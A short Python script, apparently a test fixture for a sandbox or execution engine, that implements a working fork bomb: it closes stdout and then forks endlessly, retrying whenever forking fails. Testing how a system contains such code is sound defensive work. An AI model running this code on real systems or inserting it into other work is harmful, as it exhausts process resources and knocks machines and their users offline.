"""A classic fork bomb: every process forks again whenever it can, and never exits."""

import os
import sys
import time

print("bombing", flush=True)
sys.stdout.close()  # children must not hold the pipe for the engine
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
